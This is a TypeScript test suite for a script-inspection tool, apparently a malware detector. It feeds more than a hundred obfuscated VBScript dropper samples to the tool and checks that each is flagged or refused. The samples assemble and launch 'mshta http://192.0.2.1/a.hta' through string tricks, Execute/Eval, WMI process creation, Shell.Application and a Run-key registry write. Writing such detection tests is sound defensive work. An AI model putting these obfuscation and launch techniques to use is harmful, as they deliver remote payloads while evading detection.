/** Droppers whose command an evaluator may lose: the value that counts is found, or the script is refused. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { ourInspector } from '#inspect/testing/inspector.ts'
import { readBasic } from './basic.ts'
import { SAME_NAMES_MAX } from './evaluate.ts'

const inspector = await ourInspector()
const EVIL = 'mshta http://192.0.2.1/a.hta'
const RUN = 'CreateObject("WScript.Shell").Run s'
/** A number that only the computer knows. */
const u = 'WScript.Arguments.Count'

const ROWS: Readonly<Record<string, string>> = {
  bigListUnknownWrite: `Dim a(300)\na(Hour(Now)) = "mshta ht"\ns = a(5) & "tp://192.0.2.1/a.hta"\n${RUN}`,
  bigListUnknownWrite2: `Dim a(300)\nFor i = 0 To 300\na(i) = "note"\nNext\na(${u}) = "msh"\na(${u}) = "ta ht"\ns = a(1) & a(2) & "tp://192.0.2.1/a.hta"\n${RUN}`,
  smallListNumbers: `a = Array(110,111,116,101,112,97,100)\nk = ${u}\na(k) = 109\na(k+1) = 115\na(k+2)=104\na(k+3)=116\na(k+4)=97\na(k+5)=32\na(k+6)=97\nFor i = 0 To 6\ns = s & Chr(a(i))\nNext\ns = s & ".hta"\n${RUN}`,
  replaceStart: `s = Replace("notepad c:\\a.txt xmshta http://192.0.2.1/a.hta", "x", "", 20)\n${RUN}`,
  replaceStart2: `s = Replace("notepad a mshta httpx://192.0.2.1/a.hta", "x", "", 11)\n${RUN}`,
  replaceCount: `s = Replace("moshta http://192o.0.2.1/a.hta", "o", "", 1, 1)\n${RUN}`,
  replaceCount2: `s = Replace("ashta http://192.0.2.1/a.hta", "a", "m", 1, 1)\n${RUN}`,
  openIndexWrite: `Dim a(20)\ni = 0\nDo While WScript.StdIn.Read(1) <> "x"\ni = i + 1\nLoop\na(i) = "mshta ht"\ns = a(9) & "tp://192.0.2.1/a.hta"\n${RUN}`,
  openIndexRead: `a = Array("notepad","calc2","c","d","e","f","g","h","mshta ht")\ni = 0\nDo While WScript.StdIn.Read(1) <> "x"\ni = i + 1\nLoop\ns = a(i) & "tp://192.0.2.1/a.hta"\n${RUN}`,
  openIndexRead2: `a = Array("notepad","write","cal","d","e","f","g","h","${EVIL}")\ni = 0\nFor Each x In WScript.Arguments\ni = i + 1\nNext\ns = a(i)\n${RUN}`,
  splitLimit: `a = Split("mshta http://192.0.2.1/a.hta", " ", 1)\ns = a(0)\n${RUN}`,
  splitLimit2: `a = Split("x|${EVIL.replace(' ', '|')}", "|", 2)\ns = Replace(a(1), "|", " ")\n${RUN}`,
  splitCompare: `a = Split("noteXmshta http://192.0.2.1/a.htax", "x", -1, 1)\ns = a(1)\n${RUN}`,
  strcomp: `s = "notepad"\nIf StrComp("a","b") = -1 Then s = "${EVIL}"\n${RUN}`,
  strcompText: `s = "notepad"\nIf StrComp("a","A",1) = 0 Then s = "${EVIL}"\n${RUN}`,
  instrrevStart: `p = InStrRev("abcabc","a",3)\ns = "notepad"\nIf p = 1 Then s = "${EVIL}"\n${RUN}`,
  leftUnknown: `s = Left("${EVIL}       ", 28 + ${u})\n${RUN}`,
  midUnknown: `s = Mid("   ${EVIL}", 1 + ${u})\n${RUN}`,
  midUnknownLoop: `t = "ath.a/1.2.0.291//:ptth athsm"\nFor i = Len(t) To 1 Step -1 - ${u}\ns = s & Mid(t, i, 1)\nNext\n${RUN}`,
  rightUnknown: `s = Right("xx${EVIL}", 28 + ${u})\n${RUN}`,
  chrUnknown: `k = ${u}\nFor Each c In Array(109,115,104,116,97,32,104,116,116,112,58,47,47,49,46,50,46,51,46,52,47,97)\ns = s & Chr(c + k)\nNext\n${RUN}`,
  xorUnknown: `k = Len(WScript.ScriptName)\nFor Each c In Array(105,119,108,112,101,36,108,112,112,116,62,43,43)\ns = s & Chr(c Xor k)\nNext\n${RUN}`,
  lenbText: `s = "notepad"\nIf LenB("ab") = 4 Then s = "${EVIL}"\n${RUN}`,
  typename: `s = "notepad"\nIf TypeName("a") = "String" Then s = "${EVIL}"\n${RUN}`,
  vartype: `s = "notepad"\nIf VarType("a") = 8 Then s = "${EVIL}"\n${RUN}`,
  isnumeric: `s = "notepad"\nIf IsNumeric("12") Then s = "${EVIL}"\n${RUN}`,
  isempty: `s = "notepad"\nIf IsEmpty(q) Then s = "${EVIL}"\n${RUN}`,
  isnull: `s = "notepad"\nIf IsNull(Null) Then s = "${EVIL}"\n${RUN}`,
  isnothing: `s = "notepad"\nSet q = Nothing\nIf q Is Nothing Then s = "${EVIL}"\n${RUN}`,
  isobject: `s = "notepad"\nSet q = CreateObject("Scripting.Dictionary")\nIf IsObject(q) Then s = "${EVIL}"\n${RUN}`,
  nullConcat: `s = "notepad"\nIf IsNull(Null + 1) Then s = "${EVIL}"\n${RUN}`,
  dictExists: `Set d = CreateObject("Scripting.Dictionary")\nd.Add "A", 1\ns = "notepad"\nIf Not d.Exists("a") Then s = "${EVIL}"\n${RUN}`,
  dictCount: `Set d = CreateObject("Scripting.Dictionary")\nd.Add "A", 1\nd.Add "a", 1\ns = "notepad"\nIf d.Count = 2 Then s = "${EVIL}"\n${RUN}`,
  dictRemove: `Set d = CreateObject("Scripting.Dictionary")\nd.Add "a", "notepad"\nd.Remove "a"\nd.Add "a", "${EVIL}"\ns = d("a")\n${RUN}`,
  dictRemoveCount: `Set d = CreateObject("Scripting.Dictionary")\nd.Add "a", 1\nd.RemoveAll\ns = "notepad"\nIf d.Count = 0 Then s = "${EVIL}"\n${RUN}`,
  dictKeyChange: `Set d = CreateObject("Scripting.Dictionary")\nd.Add "a", "${EVIL}"\nd.Key("a") = "b"\nd.Add "a","notepad"\ns = d("b")\n${RUN}`,
  errNumber: `On Error Resume Next\ns = "notepad"\nx = 1/0\nIf Err.Number <> 0 Then s = "${EVIL}"\n${RUN}`,
  errDesc: `On Error Resume Next\ns = "notepad"\nErr.Raise 5\nIf Err = 5 Then s = "${EVIL}"\n${RUN}`,
  errRaiseDesc: `On Error Resume Next\nErr.Raise 5, "${EVIL}", "x"\ns = Err.Source\n${RUN}`,
  errSkip: `On Error Resume Next\ns = "${EVIL}"\ns = CInt("notepad")\n${RUN}`,
  errSkip2: `On Error Resume Next\ns = "${EVIL}"\ns = nosuch("notepad")\n${RUN}`,
  errSkip3: `On Error Resume Next\ns = "${EVIL}"\ns = Array("notepad")(3)\n${RUN}`,
  errSkip4: `On Error Resume Next\ns = "${EVIL}"\ns = Mid("notepad", 0)\n${RUN}`,
  errSkip5: `On Error Resume Next\ns = "${EVIL}"\ns = "notepad" & CreateObject("no.such").x\n${RUN}`,
  errSkip6: `On Error Resume Next\ns = "${EVIL}"\ns = "notepad" & (1/0)\n${RUN}`,
  errSkip7: `On Error Resume Next\ns = "${EVIL}"\ns = "notepad" & CLng("x")\n${RUN}`,
  errIf: `On Error Resume Next\ns = "notepad"\nIf 1/0 Then\ns = "${EVIL}"\nEnd If\n${RUN}`,
  errSub: `Sub f()\ns = "${EVIL}"\nx = 1/0\ns = "notepad"\nEnd Sub\nOn Error Resume Next\nf\n${RUN}`,
  errSub2: `s = "notepad"\nSub f()\nx = CLng("x")\ns = "notepad"\nEnd Sub\nOn Error Resume Next\ns = "${EVIL}"\nf\n${RUN}`,
  byrefElem: `Sub f(x)\nx = "${EVIL}"\nEnd Sub\nDim a(2)\na(1) = "notepad"\nf a(1)\ns = a(1)\n${RUN}`,
  byrefParen: `Sub f(x)\nx = "notepad"\nEnd Sub\ns = "${EVIL}"\nf (s)\n${RUN}`,
  byrefDict: `Sub f(d)\nd("a") = "${EVIL}"\nEnd Sub\nSet d = CreateObject("Scripting.Dictionary")\nd("a") = "notepad"\nf d\ns = d("a")\n${RUN}`,
  listCopy: `a = Array("${EVIL}")\nb = a\nb(0) = "notepad"\ns = a(0)\n${RUN}`,
  listCopy2: `a = Array("${EVIL}")\nFunction f(ByVal x)\nx(0) = "notepad"\nEnd Function\nf a\ns = a(0)\n${RUN}`,
  classProp: `Class c\nPublic v\nEnd Class\nSet x = New c\nSet y = New c\nx.v = "${EVIL}"\ny.v = "notepad"\ns = x.v\n${RUN}`,
  classProp2: `Class c\nPrivate p\nPublic Property Let v(x)\np = x\nEnd Property\nPublic Property Get v\nv = p\nEnd Property\nEnd Class\nSet x = New c\nSet y = New c\nx.v = "${EVIL}"\ny.v = "notepad"\ns = x.v\n${RUN}`,
  classDefault: `Class c\nPublic Default Function f(x)\nf = "${EVIL}"\nEnd Function\nEnd Class\nSet x = New c\ns = x(1)\n${RUN}`,
  twoClasses: `Class c\nFunction g()\ng = "${EVIL}"\nEnd Function\nEnd Class\nClass d\nFunction g()\ng = "notepad"\nEnd Function\nEnd Class\nSet x = New c\ns = x.g()\n${RUN}`,
  twoClasses2: `Class d\nFunction g()\ng = "notepad"\nEnd Function\nEnd Class\nClass c\nFunction g()\ng = "${EVIL}"\nEnd Function\nEnd Class\nSet x = New c\ns = x.g()\n${RUN}`,
  redefine: `Function g()\ng = "notepad"\nEnd Function\nFunction g()\ng = "${EVIL}"\nEnd Function\ns = g()\n${RUN}`,
  getref: `Function g(x)\ng = StrReverse(x)\nEnd Function\nSet f = GetRef("g")\ns = f("ath.a/1.2.0.291//:ptth athsm")\n${RUN}`,
  getrefSub: `Sub g(x)\nCreateObject("WScript.Shell").Run x\nEnd Sub\nSet f = GetRef("g")\nf StrReverse("ath.a/1.2.0.291//:ptth athsm")`,
  execVar: `Execute "s = ""${EVIL}"""\n${RUN}`,
  execVar2: `s = "notepad"\nExecute "s = ""msh"" & ""ta http://192.0.2.1/a.hta"""\n${RUN}`,
  evalExpr: `s = Eval("""msh"" & ""ta http://192.0.2.1/a.hta""")\n${RUN}`,
  execFn: `Execute "Function f : f = ""msh"" & ""ta http://192.0.2.1/a.hta"" : End Function"\ns = f\n${RUN}`,
  selectStr: `Select Case "a"\nCase "b", "A"\ns = "notepad"\nCase Else\ns = "${EVIL}"\nEnd Select\n${RUN}`,
  forStepNeg: `For i = 5 To 1 Step -1\nIf i = 1 Then s = "${EVIL}"\nNext\n${RUN}`,
  forFloat: `For i = 0 To 1 Step 0.1\nn = n + 1\nNext\ns = "notepad"\nIf n = 10 Then s = "${EVIL}"\nIf n = 11 Then s = "${EVIL}"\n${RUN}`,
  intOverflow: `s = "notepad"\nIf 7 \\ 2 = 3 And 7 Mod 3 = 1 And -7 \\ 2 = -3 Then s = "${EVIL}"\n${RUN}`,
  modFloat: `s = "notepad"\nIf 7.6 Mod 3 = 2 Then s = "${EVIL}"\n${RUN}`,
  idivFloat: `s = "notepad"\nIf 7.6 \\ 2 = 4 Then s = "${EVIL}"\n${RUN}`,
  power: `s = "notepad"\nIf -2 ^ 2 = -4 Then s = "${EVIL}"\n${RUN}`,
  notNum: `s = "notepad"\nIf Not 1 = 2 Then s = "${EVIL}"\n${RUN}`,
  notBits: `s = "notepad"\nIf (Not 1) = -2 Then s = "${EVIL}"\n${RUN}`,
  strCompareOp: `s = "notepad"\nIf "B" < "a" Then s = "${EVIL}"\n${RUN}`,
  strNumCompare: `s = "notepad"\nIf "10" > 9 Then s = "${EVIL}"\n${RUN}`,
  strNumCompare2: `s = "notepad"\na = "10"\nb = 9\nIf a > b Then s = "${EVIL}"\n${RUN}`,
  strStrCompare: `s = "notepad"\na = "10"\nb = "9"\nIf a < b Then s = "${EVIL}"\n${RUN}`,
  plusStr: `a = "1" + "2"\ns = "notepad"\nIf a = "12" Then s = "${EVIL}"\n${RUN}`,
  plusMixed: `a = "1" + 2\ns = "notepad"\nIf a = 3 Then s = "${EVIL}"\n${RUN}`,
  hexNeg: `s = "notepad"\nIf Hex(-1) = "FFFF" Then s = "${EVIL}"\n${RUN}`,
  trueText: `s = "notepad"\nIf CStr(True) = "True" Then s = "${EVIL}"\n${RUN}`,
  trueNum: `s = "notepad"\nIf True = -1 Then s = "${EVIL}"\n${RUN}`,
  roundHalf: `s = "notepad"\nIf CInt(2.5) = 2 And Round(3.5) = 4 Then s = "${EVIL}"\n${RUN}`,
  intNeg: `s = "notepad"\nIf Int(-2.5) = -3 And Fix(-2.5) = -2 Then s = "${EVIL}"\n${RUN}`,
  instr0: `s = "notepad"\nIf InStr("abc","") = 1 Then s = "${EVIL}"\n${RUN}`,
  instrCase: `s = "notepad"\nIf InStr(1,"ABC","b",1) = 2 Then s = "${EVIL}"\n${RUN}`,
  monthName: `s = "notepad"\nIf Left(MonthName(5),1) = "M" Then s = "${EVIL}"\n${RUN}`,
  dateSerial: `s = "notepad"\nIf Year(DateSerial(2020,1,1)) = 2020 Then s = "${EVIL}"\n${RUN}`,
  dateLit: `s = "notepad"\nIf Year(#1/1/2020#) = 2020 Then s = "${EVIL}"\n${RUN}`,
  rgb: `s = "notepad"\nIf RGB(1,0,0) = 1 Then s = "${EVIL}"\n${RUN}`,
  escape: `s = Unescape("%6d%73hta%20http://192.0.2.1/a.hta")\n${RUN}`,
  regexTest: `Set r = New RegExp\nr.Pattern = "^a"\ns = "notepad"\nIf r.Test("abc") Then s = "${EVIL}"\n${RUN}`,
  regexExec: `Set r = New RegExp\nr.Pattern = "x(.*)y"\nSet m = r.Execute("axmshta http://192.0.2.1/a.htaybc")\ns = m(0).SubMatches(0)\n${RUN}`,
  regexExec2: `Set r = New RegExp\nr.Global = True\nr.Pattern = "[^#]+"\nFor Each m In r.Execute("msh#ta http#://192.0.2.1/a.hta")\ns = s & m.Value\nNext\n${RUN}`,
  xmlHex: `Set e = CreateObject("Msxml2.DOMDocument").createElement("a")\ne.dataType = "bin.hex"\ne.text = "6d736874612068747470"\nb = e.nodeTypedValue\nFor i = 1 To LenB(b)\ns = s & Chr(AscB(MidB(b,i,1)))\nNext\n${RUN}`,
  arrayList: `Set l = CreateObject("System.Collections.ArrayList")\nl.Add "mshta ht"\nl.Add "tp://192.0.2.1/a.hta"\ns = Join(l.ToArray(), "")\n${RUN}`,
  arrayListReverse: `Set l = CreateObject("System.Collections.ArrayList")\nl.Add "tp://192.0.2.1/a.hta"\nl.Add "mshta ht"\nl.Reverse\ns = Join(l.ToArray(), "")\n${RUN}`,
  arrayListSort: `Set l = CreateObject("System.Collections.ArrayList")\nl.Add "2tp://192.0.2.1/a.hta"\nl.Add "1mshta ht"\nl.Sort\ns = Mid(l(0),2) & Mid(l(1),2)\n${RUN}`,
  arrayListInsert: `Set l = CreateObject("System.Collections.ArrayList")\nl.Add "tp://192.0.2.1/a.hta"\nl.Insert 0, "mshta ht"\ns = l(0) & l(1)\n${RUN}`,
  stack: `Set l = CreateObject("System.Collections.Stack")\nl.Push "tp://192.0.2.1/a.hta"\nl.Push "mshta ht"\ns = l.Pop() & l.Pop()\n${RUN}`,
  queue: `Set l = CreateObject("System.Collections.Queue")\nl.Enqueue "mshta ht"\nl.Enqueue "tp://192.0.2.1/a.hta"\ns = l.Dequeue() & l.Dequeue()\n${RUN}`,
  sortedList: `Set l = CreateObject("System.Collections.SortedList")\nl.Add 2, "tp://192.0.2.1/a.hta"\nl.Add 1, "mshta ht"\ns = l.GetByIndex(0) & l.GetByIndex(1)\n${RUN}`,
  stringBuilder: `Set l = CreateObject("System.Text.StringBuilder")\nl.Append_3 "mshta ht"\nl.Append_3 "tp://192.0.2.1/a.hta"\ns = l.ToString()\n${RUN}`,
  envVar: `Set e = CreateObject("WScript.Shell").Environment("Process")\ne("x") = "${EVIL.replace('mshta', 'm"&"shta').replace('"&"', '')}"\ns = e("x")\n${RUN}`,
  withDo: `Do\ns = "${EVIL}"\nIf ${u} > 3 Then Exit Do\ns = "notepad"\nLoop Until True\n${RUN}`,
  exitFor: `For i = 1 To 3\ns = "${EVIL}"\nIf ${u} = i Then Exit For\ns = "notepad"\nNext\n${RUN}`,
  exitSub: `Sub f\ns = "${EVIL}"\nIf ${u} Then Exit Sub\ns = "notepad"\nEnd Sub\nf\n${RUN}`,
  exitFn: `Function f\nf = "${EVIL}"\nIf ${u} Then Exit Function\nf = "notepad"\nEnd Function\ns = f\n${RUN}`,
  multiDim: `Dim a(2,2)\na(1,2) = "${EVIL}"\na(2,1) = "notepad"\ns = a(1,2)\n${RUN}`,
  multiDim3: `Dim a(2,2,2)\na(1,2,0) = "${EVIL}"\na(1,2,1) = "notepad"\ns = a(1,2,0)\n${RUN}`,
  redimPreserve: `ReDim a(1)\na(0) = "${EVIL}"\nReDim Preserve a(5)\ns = a(0)\n${RUN}`,
  redimClear: `ReDim a(1)\na(0) = "notepad"\nReDim a(5)\nIf a(0) = "" Then a(0) = "${EVIL}"\ns = a(0)\n${RUN}`,
  erase: `a = Array("x")\nDim b(2)\nb(0)="notepad"\nErase b\nb(0) = b(0) & "${EVIL}"\ns = b(0)\n${RUN}`,
  isarray: `s="notepad"\nIf UBound(Array(1,2)) = 1 Then s = "${EVIL}"\n${RUN}`,
  ubound2: `Dim a(3,7)\ns="notepad"\nIf UBound(a,2) = 7 Then s = "${EVIL}"\n${RUN}`,
  forEachMod: `For Each x In Array("mshta ht","tp://192.0.2.1/a.hta")\ns = s & x\nNext\n${RUN}`,
  filterFn: `s = Join(Filter(Array("mshtaQ ht","zz","tp://192.0.2.1/aQ.hta"),"Q"),"")\ns = Replace(s,"Q","")\n${RUN}`,
  filterCase: `s = Join(Filter(Array("mshtaQ ht","zz","tp://192.0.2.1/aQ.hta"),"q",True,1),"")\ns = Replace(s,"Q","")\n${RUN}`,
  filterNeg: `s = Join(Filter(Array("mshta ht","zz","tp://192.0.2.1/a.hta"),"z",False),"")\n${RUN}`,
  stringNum: `s = String(1,"mxx") & String(1,115) & "hta http://192.0.2.1/a.hta"\n${RUN}`,
  lset: `s = LTrim("  ${EVIL}")\n${RUN}`,
  nestedProc: `Function a(x)\na = b(x,1)\nEnd Function\nFunction b(x,n)\nIf n > 3 Then b = x Else b = b(x,n+1)\nEnd Function\ns = a("${EVIL}")\n${RUN}`,
  globalShadow: `Sub f\nDim s\ns = "notepad"\nEnd Sub\ns = "${EVIL}"\nf\n${RUN}`,
  paramShadow: `Sub f(ByVal s)\ns = "notepad"\nEnd Sub\ns = "${EVIL}"\nf s\n${RUN}`,
  constKw: `Const c = "${EVIL}"\ns = c\n${RUN}`,
  concatLoop: `For i = 1 To 28\ns = s & Mid("${EVIL}", i, 1)\nNext\n${RUN}`,
  unknownCondNested: `If ${u} Then\nIf ${u} > 2 Then\nt = "mshta ht"\nElse\nt = "a"\nEnd If\nElse\nt = "b"\nEnd If\ns = t & "tp://192.0.2.1/a.hta"\n${RUN}`,
  stdIn: `s = Replace("m#shta http://192.0.2.1/a.hta", Left("#" & WScript.ScriptName,1), "")\n${RUN}`,
  timer: `If Timer > 0 Then s = "${EVIL}" Else s = "notepad"\n${RUN}`,
  noshell: `Set s = GetObject("winmgmts:Win32_Process")\ns.Create "${EVIL}"`,
  shellApp: `CreateObject("Shell.Application").ShellExecute "mshta", "http://192.0.2.1/a.hta"`,
  shellAppMember: `CreateObject("Shell.Application").Windows.Item().Document.Application.ShellExecute "mshta", "http://192.0.2.1/a.hta"`,
  execMeth: `Set w = GetObject("winmgmts:")\nSet c = w.Get("Win32_Process")\nSet p = c.Methods_("Create").InParameters.SpawnInstance_\np.CommandLine = "${EVIL}"\nc.ExecMethod_ "Create", p`,
  regRun: `CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "${EVIL}"`,
  propIdx: `Set d = CreateObject("Scripting.Dictionary")\nd.CompareMode = 1\nd("A") = "${EVIL}"\ns = d("a")\n${RUN}`,
  itemsIdx: `Set d = CreateObject("Scripting.Dictionary")\nd("A") = "${EVIL}"\nx = d.Items\ns = x(0)\n${RUN}`,
  keysJoin: `Set d = CreateObject("Scripting.Dictionary")\nd("mshta ht") = 1\nd("tp://192.0.2.1/a.hta") = 1\ns = Join(d.Keys,"")\n${RUN}`,
  fileRead: `Set f = CreateObject("Scripting.FileSystemObject").OpenTextFile(WScript.ScriptFullName)\nt = f.ReadAll\ns = Mid(t, InStr(t,"'!")+2)\n${RUN}\n'!${EVIL}`,
}

suite('a dropper is never harmless', () => {
  for (const [name, source] of Object.entries(ROWS))
    test(name, () => {
      const { findings, obstacle } = inspector.inspect(Buffer.from(`${source}\n`, 'latin1'), { name: 'a.vbs' })
      assert.ok(obstacle !== null || findings.some(({ severity }) => severity === 'malicious'), source)
    })
})

suite('procedures of one name', () => {
  const starts = (count: number): string[] => {
    const all = Array.from({ length: count }, (_, i) => `Function f()\nf = "calc${i}"\nEnd Function\n`).join('')
    const { effects } = readBasic([{ name: '', text: `${all}Shell f()` }], { isScript: true })
    return effects.filter(({ kind }) => kind === 'start').map(({ text }) => text)
  }
  test('each may be the one that is called', () => assert.deepEqual(starts(3).slice(0, 3), ['calc0', 'calc1', 'calc2']))
  test('past the limit, the evaluation is incomplete', () => {
    const isIncomplete = (count: number): boolean =>
      readBasic([{ name: '', text: `${'Function f()\nEnd Function\n'.repeat(count)}Shell f()` }], { isScript: true })
        .isIncomplete
    assert.deepEqual([isIncomplete(SAME_NAMES_MAX), isIncomplete(SAME_NAMES_MAX + 1)], [false, true])
  })
})

suite('an ordinary script is harmless', () => {
  const rows = [
    'Set f = CreateObject("Scripting.FileSystemObject")\np = f.BuildPath(f.GetParentFolderName(WScript.ScriptFullName), "a.txt")\nCreateObject("WScript.Shell").Run "notepad " & p',
    'Set d = CreateObject("Scripting.Dictionary")\nFor Each x In WScript.Arguments\nIf Not d.Exists(x) Then d.Add x, "a"\nNext\nFor Each k In d\nWScript.Echo k & d(k)\nNext\nCreateObject("WScript.Shell").Run "notepad"',
    'On Error Resume Next\nSub a(p)\nSet x = GetObject(p)\nx.Name = "b"\nEnd Sub\na "LDAP://x"\nCreateObject("WScript.Shell").Run "notepad a.txt"',
    'Class c\nPrivate p\nProperty Let v(x)\np = x\nEnd Property\nProperty Get v\nv = p\nEnd Property\nEnd Class\nSet a = New c\na.v = "notepad"\nSet b = New c\nb.v = "write"\nCreateObject("WScript.Shell").Run a.v',
    'Set w = CreateObject("WScript.Shell")\nt = "notepad a.txt"\nw.Run Left(t, InStr(t, ".") + 3)',
  ]
  for (const row of rows)
    test(row, () => {
      const { findings, obstacle } = inspector.inspect(Buffer.from(`${row}\n`, 'latin1'), { name: 'a.vbs' })
      assert.equal(obstacle, null)
      assert.deepEqual(
        findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id),
        [],
      )
    })
})
